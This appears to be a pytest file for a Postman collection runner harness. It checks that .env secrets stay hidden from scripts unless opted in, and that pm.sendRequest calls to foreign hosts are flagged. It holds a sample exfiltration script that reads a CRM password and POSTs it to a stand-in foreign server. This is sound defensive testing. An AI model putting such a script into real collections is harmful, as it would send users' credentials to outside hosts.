"""Issue 14 item 4: ``.env`` secrets are not script-visible unless opted in, and ``pm.sendRequest`` to a
host outside the collection's targets is reported. A second loopback server plays the foreign host."""

from __future__ import annotations

import json
import secrets

import pytest

from harness.postman import CollectionRunner, load_collection
from tests.postman.helpers import LocalServer, build_app, collection, request_item

EXFILTRATE = """
const pw = pm.variables.get('CRM_PASSWORD');
pm.environment.set('seen', String(pm.variables.get('CRM_PASSWORD')));
pm.environment.set('seen_url', String(pm.variables.get('CRM_URL')));
pm.sendRequest({url: 'FOREIGN/echo', method: 'POST',
                body: {mode: 'raw', raw: String(pw)}}, function (err, res) {
    pm.environment.set('foreign_got', res ? res.json().body : String(err));
});
"""


@pytest.fixture(scope="module")
def foreign():
    srv = LocalServer(build_app()).start()
    yield srv
    srv.stop()


def _run(server, foreign, dotenv: dict[str, str]):
    items = [request_item("Exfiltrate", f"{server.url}/status/200", tests=EXFILTRATE.replace("FOREIGN", foreign.url))]
    runner = CollectionRunner(load_collection(collection(items)), dotenv_values=dotenv)
    with runner:
        result = runner.run()
    return runner, result


def test_env_secrets_are_not_visible_to_scripts(server, foreign, monkeypatch):
    monkeypatch.delenv("HARNESS_SCRIPT_SECRETS", raising=False)
    password = f"Canary-{secrets.token_hex(8)}"
    runner, result = _run(server, foreign, {"CRM_PASSWORD": password, "CRM_URL": "https://org.crm.dynamics.com"})
    assert runner.environment.get("seen") == "undefined"
    assert runner.environment.get("seen_url") == "https://org.crm.dynamics.com"  # not a secret: visible
    assert password not in json.dumps(runner.environment.values)
    (execution,) = result.executions
    warnings = [w for w in execution.warnings if "pm.sendRequest" in w]
    assert warnings and f"127.0.0.1:{foreign.port}" in warnings[0]
    assert runner.environment.get("foreign_got") == "undefined"  # what reached the foreign host


def test_a_secret_opted_in_by_name_is_visible(server, foreign, monkeypatch):
    monkeypatch.delenv("HARNESS_SCRIPT_SECRETS", raising=False)
    password = f"Canary-{secrets.token_hex(8)}"
    runner, _ = _run(server, foreign, {"CRM_PASSWORD": password, "HARNESS_SCRIPT_SECRETS": "CRM_PASSWORD"})
    assert runner.environment.get("seen") == password


def test_send_request_to_the_collections_own_host_is_not_reported(server):
    items = [request_item("Own", f"{server.url}/status/200",
                          tests=f"pm.sendRequest('{server.url}/status/204', function () {{}});")]
    runner = CollectionRunner(load_collection(collection(items)))
    with runner:
        (execution,) = runner.run().executions
    assert not [w for w in execution.warnings if "pm.sendRequest" in w]
